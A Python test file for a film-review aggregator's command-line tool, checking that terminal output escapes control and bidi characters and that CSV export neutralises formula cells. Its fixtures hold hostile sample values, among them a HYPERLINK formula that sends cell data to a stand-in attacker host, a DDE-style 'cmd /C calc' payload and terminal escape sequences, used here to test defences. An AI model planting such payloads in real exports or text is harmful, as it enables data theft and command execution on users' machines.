"""Hostile stored text reaches neither the terminal nor a spreadsheet as something that runs:
every table the `aggregator` command prints escapes control, format and bidi characters
(aggregator.cli.terminal), and a CSV export neutralises formula cells (aggregator.query.export).

The stored values are written into the database directly, as a store from any version (or a
page the cleaning let through) could have left them; the command runs in its own process.
All outlets, critics and films here are fictional.
"""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy.orm import Session

from aggregator.cli.terminal import for_terminal, for_terminal_block
from aggregator.db.runs import start_run
from aggregator.db.session import ensure_schema, make_engine
from aggregator.db.upsert import save_reviews
from aggregator.items import ReviewItem
from aggregator.query.export import neutralise_formula
from tests.factories import outlet

REPO = Path(__file__).resolve().parent.parent
BIN = Path(sys.executable).parent

RED_TITLE = "\x1b[31mRed\x1b[0m"
HYPERLINK = '=HYPERLINK("https://evil.example/steal?d="&A1, "Jane Doe")'
BIDI_NAME = "Ivo \u202eSRAM\u202c Marsh"
UNSAFE = ("\x1b", "\u202e", "\u202c", "\r", "\x07", "\x9b")


def aggregator(*args: str, home: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, "AGGREGATOR_LOG_LEVEL": "WARNING", "XDG_DATA_HOME": str(home)}
    env.pop("AGGREGATOR_DATABASE_URL", None)
    return subprocess.run([str(BIN / "aggregator"), *args], cwd=REPO, env=env, capture_output=True,
                          text=True, encoding="utf-8", errors="surrogateescape", timeout=120)


@pytest.fixture
def hostile_store(tmp_path) -> Path:
    """One film with two reviews, then the stored film title, critic names, outlet name and a
    run's spider overwritten with hostile strings."""
    path = tmp_path / "hostile.sqlite"
    engine = make_engine(f"sqlite:///{path}")
    ensure_schema(engine)
    publications = {"reel-gazette": outlet("reel-gazette", "Reel Gazette", ("gazette.example",))}
    items = [
        ReviewItem(url=f"https://gazette.example/reviews/red-{n}", publication="reel-gazette",
                   critics=[name], film_title="Red", film_year=2031, rating_raw=rating,
                   rating_value=value, rating_best=4.0, rating_worst=-4.0, scale="symmetric/4",
                   score=score, verdict=verdict, verdict_source=source, confidence=confidence,
                   headline=headline)
        for n, (name, rating, value, score, verdict, source, confidence, headline) in enumerate([
            ("Jane Doe", "-3", -3.0, 12.5, "negative", "rating", None, "@SUM(1+1)*cmd|' /C calc'!A0"),
            ("Ivo Marsh", "+2", 2.0, 75.0, "positive", "inferred", 0.55, "- a dash, then words"),
        ])
    ]
    with Session(engine) as session:
        save_reviews(session, items, publications)
        start_run(session, "\x1b]0;owned\x07spider", {})
        session.commit()
    engine.dispose()
    with sqlite3.connect(path) as connection:
        connection.execute("UPDATE films SET title = ? WHERE key = 'red'", (RED_TITLE,))
        connection.execute("UPDATE critics SET name = ? WHERE name = 'Jane Doe'", (HYPERLINK,))
        connection.execute("UPDATE critics SET name = ? WHERE name = 'Ivo Marsh'", (BIDI_NAME,))
        connection.execute("UPDATE publications SET name = ? WHERE key = 'reel-gazette'",
                           ("Reel\rGazette\x07\x9b",))
    return path


def test_film_show_prints_the_title_without_its_escape(hostile_store, tmp_path):
    result = aggregator("film", "show", "Red", "--db", str(hostile_store), home=tmp_path)
    assert result.returncode == 0, result.stderr
    assert not any(char in result.stdout for char in UNSAFE), repr(result.stdout)
    assert result.stdout.startswith("\\x1b[31mRed\\x1b[0m (2031)\n")  # visible, not obeyed
    assert "Ivo \\u202eSRAM\\u202c Marsh" in result.stdout
    assert "Reel\\x0dGazette\\x07\\x9b" in result.stdout
    # every stored string on its own line: an escaped CR or LF splits no row (the 2 reviews are
    # the table's last 2 lines, each naming its outlet)
    assert [line.count("Gazette") for line in result.stdout.splitlines()[-2:]] == [1, 1]


def test_every_table_escapes_stored_text(hostile_store, tmp_path):
    with sqlite3.connect(hostile_store) as connection:
        (critic_id,) = connection.execute("SELECT id FROM critics WHERE name = ?", (BIDI_NAME,)).fetchone()
    shown = {
        "runs": aggregator("runs", "--db", str(hostile_store), home=tmp_path),
        "critic show": aggregator("critic", "show", str(critic_id), "--db", str(hostile_store), home=tmp_path),
        "verdict review": aggregator("verdict", "review", "--below", "1", "--db", str(hostile_store), home=tmp_path),
    }
    for command, result in shown.items():
        assert result.returncode == 0, (command, result.stderr)
        assert not any(char in result.stdout for char in UNSAFE), (command, repr(result.stdout))
    assert "\\x1b]0;owned\\x07spider" in shown["runs"].stdout
    assert "critic " in shown["critic show"].stdout and "\\u202eSRAM" in shown["critic show"].stdout
    assert "Reel\\x0dGazette" in shown["verdict review"].stdout  # the outlet of the row to check
    assert "\\x1b[31mRed" in shown["verdict review"].stdout  # its film


def test_csv_export_neutralises_formula_cells_and_keeps_numbers(hostile_store, tmp_path):
    result = aggregator("export", "--format", "csv", "--db", str(hostile_store), home=tmp_path)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    by_rating = {row["rating_raw"]: row for row in rows}
    assert set(by_rating) == {"-3", "+2"}  # plain numbers: no quote, read as numbers
    jane, ivo = by_rating["-3"], by_rating["+2"]
    assert jane["critics"] == "'" + HYPERLINK
    assert jane["headline"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert ivo["headline"] == "'- a dash, then words"
    assert (jane["rating_value"], jane["rating_worst"], jane["score"]) == ("-3.0", "-4.0", "12.5")


def test_raw_cells_writes_every_cell_as_stored(hostile_store, tmp_path):
    result = aggregator("export", "--format", "csv", "--raw-cells", "--db", str(hostile_store), home=tmp_path)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert HYPERLINK in {row["critics"] for row in rows}


def test_export_help_documents_the_neutralising():
    result = subprocess.run([str(BIN / "aggregator"), "export", "--help"], capture_output=True, text=True)
    assert "--raw-cells" in result.stdout and "formula" in result.stdout and "OWASP" in result.stdout


@pytest.mark.parametrize("cell, written", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("-3", "-3"), ("+2", "+2"), ("-2.5", "-2.5"), ("3/4", "3/4"),
    ("Jane = good", "Jane = good"), ("", ""), (-3.0, -3.0), (-3, -3), (None, None),
])
def test_neutralise_formula(cell, written):
    assert neutralise_formula(cell) == written


@pytest.mark.parametrize("text, shown", [
    ("plain title", "plain title"),
    ("Amélie — 東京物語", "Amélie — 東京物語"),
    ("\x1b[31mRed\x1b[0m", "\\x1b[31mRed\\x1b[0m"),
    ("a\rb\tc\nd", "a\\x0db\\x09c\\x0ad"),
    ("abc\u202edcba", "abc\\u202edcba"),
    ("zero\u200bwidth\ufeff", "zero\\u200bwidth\\ufeff"),
    ("line\u2028sep", "line\\u2028sep"),
    ("c1\x9bcsi", "c1\\x9bcsi"),
    ("lone \ud800 surrogate", "lone \\ud800 surrogate"),
    ("नमस्ते می\u200cخواهم", "नमस्ते می\u200cخواهم"),  # joiners the script needs stay
    ("no\u00a0break", "no\u00a0break"),
])
def test_for_terminal(text, shown):
    assert for_terminal(text) == shown
    assert for_terminal(for_terminal(text)) == for_terminal(text)  # idempotent


def test_for_terminal_block_keeps_line_breaks_only():
    assert for_terminal_block("one\ntwo\x1b[2J\r\n") == "one\ntwo\\x1b[2J\\x0d\n"
